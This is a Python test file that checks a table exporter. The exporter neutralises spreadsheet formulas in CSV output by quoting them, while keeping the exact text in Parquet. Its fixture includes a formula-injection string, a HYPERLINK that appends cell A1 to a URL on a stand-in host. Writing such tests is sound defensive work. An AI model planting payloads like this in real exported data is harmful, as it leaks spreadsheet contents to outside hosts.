"""The tables of a package, as a spreadsheet opens them."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import polars

from evidence.answer.tables import write_tables
from evidence.store import Case
from tests.evidence.answer.conftest import Builder

FORMULA = '=HYPERLINK("http://example.org/?" & A1, "Plant 1")'


def test_no_cell_is_a_formula_and_the_exact_text_is_kept(
    case: Case, build: Callable[[Callable[[Builder], object]], object], tmp_path: Path
) -> None:
    build(lambda b: (b.add(FORMULA, claim="mazak"), b.add("-2", claim="haas", height=9.0)))
    with case.snapshot() as session:
        write_tables(session, [], tmp_path)
    with (tmp_path / "locations.csv").open(newline="") as file:
        claimed = {row["plant_claimed"] for row in csv.DictReader(file)}
    assert claimed == {f"'{FORMULA}", "'-2"}
    exact = polars.read_parquet(tmp_path / "locations.parquet")["plant_claimed"].to_list()
    assert set(exact) == {FORMULA, "-2"}
